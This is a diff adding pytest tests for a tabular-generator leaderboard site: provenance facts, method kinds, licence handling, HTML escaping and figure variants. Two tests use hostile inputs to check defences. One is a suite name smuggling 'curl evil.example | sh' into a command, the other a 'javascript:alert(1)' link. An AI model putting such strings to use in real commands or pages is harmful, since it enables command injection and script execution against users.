@@ -22,9 +22,10 @@ from tabgen.experiment import Experiment, parse_methods
 from tabgen.leaderboard.boards import embed, make_boards
 from tabgen.leaderboard.bundle import load_rows, write_bundle
 from tabgen.leaderboard.manifest import MANIFEST
-from tabgen.leaderboard.pages import link, slug
+from tabgen.leaderboard.overview import KINDS, facts, kind_of
+from tabgen.leaderboard.pages import link, prose, slug
 from tabgen.leaderboard.serve import LOOPBACK, make_server
-from tabgen.leaderboard.site import build_site
+from tabgen.leaderboard.site import build_site, how_to_run
 from tabgen.leaderboard.verify import (
     MOST_UNVERIFIED,
     TOLERANCE,
@@ -268,6 +269,83 @@ def test_the_command_builds_from_runs_and_bundles(built_in: Plugins, tmp_path: P
     result = CliRunner().invoke(app, [*words, "-o", str(tmp_path / "site")], catch_exceptions=False)
     assert result.exit_code == 0
     assert (tmp_path / "site" / "generators" / "independent.html").is_file()
+
+
+# The first look
+
+
+def test_the_first_look_says_what_the_answer_rests_on(built_in: Plugins, tmp_path: Path) -> None:
+    rows = make_rows(("zero-shot", "real", "bootstrap", "jitter", "noise"))
+    fail(rows[-1])
+    for row in rows:
+        day = "2026-02-03" if row["fold"] else "2026-01-05"
+        row["provenance"] = row["provenance"] | {"date": day, "tabgen": "9.8.7"}
+    (board,) = make_boards(rows, built_in, "complete")
+    told = dict(facts(board, board.rankings["roc_auc"], "CC0-1.0"))
+    assert told["Use of the rows"].startswith("fine-tune: fine-tuned on the rows")
+    assert told["Coverage"] == "59 of 60 cells ended well; 5 methods ranked on 5 of 6 datasets"
+    assert told["Computed"] == f"2026-01-05 to 2026-02-03, by tabgen 9.8.7, protocol {rows[0]['protocol']}"
+    assert told["What it can see"].startswith("not measured")
+    assert told["Controls"].partition(":")[0] in ("passed", "failed") and "noise" in told["Controls"]
+    assert told["Licence of the rows"] == "CC0-1.0"
+    unstated = dict(facts(board, board.rankings["roc_auc"], None))
+    assert unstated["Licence of the rows"] == "not stated by whoever built this site"
+
+
+@pytest.mark.parametrize(
+    ("method", "generator", "plugin", "kind"),
+    [
+        ("real", None, None, "baseline"),
+        ("noise", "noise", "tabgen.references", "control"),
+        ("corrupted:share=0.1", "corrupted", "tabgen.references", "control"),
+        ("jitter", "jitter", "tabgen.references", "reference"),
+        ("jitter:noise=0.2", "jitter", "tabgen.references", "tuned"),
+        ("ctgan@augment", "ctgan", "ctgan", "generator"),
+        ("mine (made elsewhere)", "file", "tabgen.made_elsewhere", "made elsewhere"),
+    ],
+)
+def test_every_method_is_of_a_kind(method: str, generator: str | None, plugin: str | None, kind: str) -> None:
+    assert kind_of({"method": method, "generator": generator, "plugin": plugin}) == kind
+    assert kind in KINDS
+
+
+def test_licence_and_address_are_told_and_an_address_of_another_kind_is_no_link(
+    built_in: Plugins, tmp_path: Path
+) -> None:
+    run = store_rows(make_rows(datasets=2), tmp_path / "run")
+    build_site([run], tmp_path / "a", built_in, licence="CC-BY-4.0", submit="https://example.org/boards")
+    page = (tmp_path / "a" / "index.html").read_text(encoding="utf-8")
+    assert '<a href="https://example.org/boards" rel="noreferrer">' in page and "CC-BY-4.0" in page
+    assert 'license: "CC-BY-4.0"' in (tmp_path / "a" / "CITATION.cff").read_text()
+    build_site([run], tmp_path / "b", built_in, submit="javascript:alert(1)")
+    page = (tmp_path / "b" / "index.html").read_text(encoding="utf-8")
+    assert "javascript:" not in page and "not stated by whoever built this site" in page
+    assert "license" not in (tmp_path / "b" / "CITATION.cff").read_text()
+
+
+def test_a_stranger_s_suite_is_in_no_command_that_others_copy(built_in: Plugins) -> None:
+    rows = make_rows(datasets=2, suite="core; curl evil.example | sh")
+    (board,) = make_boards([with_key(row) for row in rows], built_in, "complete")
+    assert how_to_run(board, built_in) == "--suite SUITE --folds 2 --max-train-rows 1000 --arms fine-tune"
+    (board,) = make_boards(make_rows(datasets=2, suite="quick"), built_in, "complete")
+    assert how_to_run(board, built_in).startswith("--suite quick --folds 2")
+
+
+def test_the_protocol_page_has_no_raw_markup(site: Path) -> None:
+    text = (site / "protocol.html").read_text(encoding="utf-8")
+    assert "`" not in text and "/(" not in text and "<dd>2.0</dd>" not in text
+    assert "Null for <code>zero-shot</code> and <code>real</code>." in text
+    assert prose("a `b` and ``<c>`` & d") == "a <code>b</code> and <code>&lt;c&gt;</code> &amp; d"
+
+
+def test_figures_have_a_form_for_phones_and_for_the_dark(site: Path) -> None:
+    page = (site / "index.html").read_text(encoding="utf-8")
+    pictures = re.findall(r'srcset="(figures/[^"]+)"><img src="(figures/[^"]+)"', page)
+    assert len(pictures) >= 3
+    for narrow, wide in pictures:
+        small, large = ((site / name).read_text(encoding="utf-8") for name in (narrow, wide))
+        assert 'width="302.4pt"' in small and 'width="302.4pt"' not in large
+        assert "prefers-color-scheme: dark" in small and "prefers-color-scheme: dark" in large
 
 
 # Strangers' names
